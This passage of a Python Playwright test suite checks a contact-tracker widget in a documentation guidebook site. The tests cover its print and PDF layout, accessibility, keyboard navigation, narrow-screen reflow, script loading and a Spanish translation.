                    "promised": "What I promised, at length too: " + "an article " * 15 + f"end-of-row-{n:02d}"}
                   for n, person in enumerate(many(40))]
    seed(page, long_people)
    page.click(f"{TRACKER} [data-gb-action='print']")
    page.wait_for_function("window.printCalls === 1")  # read at once, it was 0 once in a full run on a busy machine
    page.emulate_media(media="print")
    sheet = "#gb-print-sheet"
    assert page.is_visible(sheet) and not page.is_visible(f"{TRACKER} .gb-tool")
    assert page.locator(f"{sheet} tbody tr").count() == 40
    assert page.eval_on_selector(f"{sheet} tbody tr", "row => getComputedStyle(row).breakInside") == "avoid"
    first = page.eval_on_selector_all(f"{sheet} tbody tr:first-child td", "cells => cells.map(c => c.textContent)")
    overdue = sorted(long_people, key=lambda p: (p["due"], p["name"]))[0]
    assert first[0] == overdue["name"] and first[4] == overdue["next"] and first[2] in ("Close", "Loose")
    pdf = page.pdf(format="A4")
    keep_for_review(pdf, "people-print.pdf")
    reader = PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) == pdf_page_count(pdf) > 1
    texts = ["".join(p.extract_text().split()).replace("-", "") for p in reader.pages]  # hyphens: auto may break a word
    for person in long_people:
        name, end = person["name"].replace(" ", ""), person["promised"][-12:].replace("-", "")
        pages = [number for number, text in enumerate(texts) if name in text]
        assert len(pages) == 1 and end in texts[pages[0]], f"{person['name']}'s row is split across pages {pages}"

    page.emulate_media(media="screen")
    page.evaluate("window.dispatchEvent(new Event('afterprint'))")
    page.click(f"{TRACKER} [data-gb-action='print-blank']")
    page.emulate_media(media="print")
    assert page.locator(f"{sheet} tbody tr").count() == 14
    assert page.eval_on_selector_all(f"{sheet} tbody td", "cells => cells.every(c => c.textContent === '')")


def test_printing_the_page_itself_prints_the_table_too(tracker):
    page = tracker()
    seed(page, VIEW_PEOPLE)
    page.evaluate("window.dispatchEvent(new Event('beforeprint'))")
    page.emulate_media(media="print")
    assert page.locator("#gb-print-sheet tbody tr").count() == len(VIEW_PEOPLE)
    page.evaluate("window.dispatchEvent(new Event('afterprint'))")
    assert page.locator("#gb-print-sheet").count() == 0


# --- Accessibility ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("state", ["empty", "fifty people", "dialog open"])
def test_no_axe_violations(tracker, scheme, state):
    page = tracker(color_scheme=scheme)
    if state != "empty":
        seed(page, many(50))
        open_person(page, "Person 1 Example")
        open_person(page, "Person 2 Example").locator("[data-gb-action='wrote']").click()
        page.fill(f"{TRACKER} [data-gb-search]", "example")
    if state == "dialog open":
        page.click(f"{TRACKER} [data-gb-action='add']")
    violations, report = axe_report(page)
    assert violations == 0, f"{state} ({scheme}):\n{report}"


def test_every_field_has_a_label(tracker):
    page = tracker()
    unlabelled = page.evaluate(f"""() => [...document.querySelectorAll('{TRACKER} input, {TRACKER} select, {TRACKER} textarea')]
        .filter((field) => !(field.labels && field.labels.length && field.labels[0].textContent.trim()))
        .map((field) => field.outerHTML)""")
    assert unlabelled == []
    assert page.inner_text(f"{TRACKER} .gb-tie legend") == "How close are you?"
    link = page.locator(f"{TRACKER} .gb-tie .gb-more a")
    assert link.inner_text() == "Close and loose ties" and link.get_attribute("href").endswith("keeping-in-touch/#close-and-loose")


def test_keyboard_only(tracker):
    page = tracker()
    page.focus(f"{TRACKER} [data-gb-action='add']")
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.dataset.gbField") == "name", "the dialog opens on the name"
    page.keyboard.type("Keyboard Kim")
    page.keyboard.press("Tab")
    page.keyboard.type("Met at the library")
    page.keyboard.press("Tab")
    page.keyboard.press("Space")  # We met today
    page.keyboard.press("Enter")  # submits the form
    # The dialog's "close" event, which hands the focus to the new person, comes a task after `open` turns
    # false: wait until the focus has left the "Add" button the dialog gives it back to (once in five full runs
    # the check below ran in between).
    page.wait_for_function("document.querySelector('.gb-person-form').open === false"
                           " && document.activeElement.dataset.gbAction !== 'add'")
    kim = by_name(page)["Keyboard Kim"]
    assert kim["how"] == "Met at the library" and kim["met"] == iso(TODAY)
    assert page.evaluate("document.activeElement.dataset.gbAction") == "follow_up"
    page.keyboard.press("Enter")
    assert by_name(page)["Keyboard Kim"]["step"] == "follow_up"
    assert page.evaluate("document.activeElement.closest('li[data-gb-person]') !== null"), "the focus stays with Kim"
    assert page.evaluate("document.activeElement.tagName") == "SUMMARY", "her suggestion is taken: her line has it"
    page.keyboard.press("Enter")
    assert not row(page, "Keyboard Kim").locator("details").evaluate("d => d.open"), "Enter closes her details"
    page.keyboard.press("Enter")
    for _ in range(12):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.dataset.gbAction") == "edit":
            break
    page.keyboard.press("Enter")
    assert page.evaluate("document.querySelector('.gb-person-form').open")
    page.keyboard.press("Escape")
    assert page.evaluate("document.activeElement.dataset.gbAction") == "edit", "the focus comes back"
    outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
    assert outline != "none", "focus is visible"


def test_reflow_at_320_pixels(tracker):
    page = tracker(viewport={"width": 320, "height": 640})
    seed(page, many(50) + [{"name": "A" + "verylongname" * 8, "notes": "n" * 200, "url": "https://example.org/" + "p" * 120}])
    open_person(page, "A" + "verylongname" * 8)
    open_person(page, "Person 3 Example")
    assert page.evaluate("document.documentElement.scrollWidth") <= 320
    page.click(f"{TRACKER} [data-gb-action='add']")
    assert page.evaluate("document.querySelector('.gb-person-form').getBoundingClientRect().right") <= 320
    assert page.evaluate("document.documentElement.scrollWidth") <= 320


# --- Only on its own page; in Spanish -------------------------------------------------------------------


LOADED = "performance.getEntriesByType('resource').map((entry) => entry.name)"


@pytest.mark.parametrize("path", ["", "chapters/keeping-in-touch/", "chapters/demo/", "toolkit/", "workbook/", "progress/"])
def test_no_other_page_loads_the_tracker(tracker, path):
    page = tracker(path, today=None)  # resource timings: the real clock
    page.wait_for_load_state("networkidle")
    loaded = page.evaluate(LOADED)
    assert [url for url in loaded if "/assets/guidebook/" in url], "the page loaded our script"
    assert not [url for url in loaded if "tracker" in url], loaded
    assert page.locator(".gb-tracker").count() == 0


def test_the_tracker_is_in_neither_the_workbook_nor_the_progress_table_but_its_import_is_checked(tracker, tmp_path):
    progress = tracker("progress/", today=None)  # resource timings: the real clock
    assert progress.locator("th[scope='col']").all_inner_texts() == [
        "Chapter", "Checklist items done", "Knowledge check", "Self-assessment"]
    assert "tracker" not in progress.inner_text(".gb-progress")
    guide = json.loads(progress.get_attribute(".gb-progress", "data-gb-guide"))
    assert guide["tools"] == [{"kind": "tracker", "key": KEY, "title": "Your people"}]
    assert all(part["kind"] != "tracker" for chapter in guide["chapters"] for part in chapter["parts"])
    path = tmp_path / "progress.json"
    path.write_text(json.dumps({"format": guide["format"], "version": 2, "site": guide["site"],
                                "entries": {KEY: {"people": {"p0": {"name": "Ana", "tie": "best friends"}}}}}), "utf-8")
    progress.set_input_files("[data-gb-import]", str(path))
    progress.wait_for_function("document.querySelector('.gb-message').textContent !== ''")
    assert progress.inner_text(".gb-message").startswith("This file’s “Your people” is not in the form this guidebook saves")
    assert [url for url in progress.evaluate(LOADED) if url.split("?")[0].endswith("/tracker.js")], \
        "the tracker's schema loads for the check, and only then"


@pytest.fixture(scope="module")
def spanish_people(tmp_path_factory, serve):
    """The Spanish demo guidebook with the tracker (tests/fixtures/tracker-spanish/ over spanish/)."""
    root = tmp_path_factory.mktemp("spanish-people")
    server = serve(root / "site")
    project = make_fixture_project("spanish", root / "project")
    shutil.copytree(FIXTURES / "tracker-spanish", project, dirs_exist_ok=True)
    result = mkdocs_build(project, root / "site", SITE_URL=server.url)
    assert result.returncode == 0 and "WARNING" not in result.stderr, result.stderr
    return server.url


def test_the_tracker_speaks_spanish(open_page, spanish_people, tmp_path):
    page = open_page("gente/", base=spanish_people, today=TODAY, accept_downloads=True)
    tracker_el = "#gb-seguir-en-contacto-tus-contactos"
    page.click(f"{tracker_el} [data-gb-action='add']")
    page.fill(f"{tracker_el} [data-gb-field='name']", "Lucía Gómez")
    page.check(f"{tracker_el} [data-gb-field='met']")
    page.check(f"{tracker_el} [data-gb-field='tie'][value='close']")
    page.click(f"{tracker_el} [data-gb-action='save']")
    assert page.inner_text(f"{tracker_el} .gb-status") == "Se ha añadido a Lucía Gómez."
    assert page.inner_text(f"{tracker_el} .gb-counts").startswith("1 persona: 0 con retraso")
    suggestion = page.locator(f"{tracker_el} .gb-suggestions button").first
    assert suggestion.inner_text().startswith("Escribir antes del ")
    suggestion.click()
    page.locator(f"{tracker_el} [data-gb-action='wrote']").click()
    with page.expect_download() as started:
        page.click(f"{tracker_el} [data-gb-action='export-csv']")
    texts = {"page": page.inner_text("body"), "message": page.inner_text(f"{tracker_el} .gb-message"),
             "file": Path(started.value.path()).read_text("utf-8")}
    page.set_input_files(f"{tracker_el} [data-gb-csv]", str(CSV / "wrong-encoding.csv"))
    page.wait_for_function(f"document.querySelector('{tracker_el} .gb-message').textContent.startsWith('La línea 3')")
    texts["refusal"] = page.inner_text(f"{tracker_el} .gb-message")
    page.click(f"{tracker_el} [data-gb-action='add']")
    texts["dialog"] = page.inner_text(f"{tracker_el} .gb-person-form")
    found = {where: leaks(text) for where, text in texts.items() if leaks(text)}
    assert not found, f"English in the Spanish tracker: {found}"
    violations, report = axe_report(page)
    assert violations == 0, report
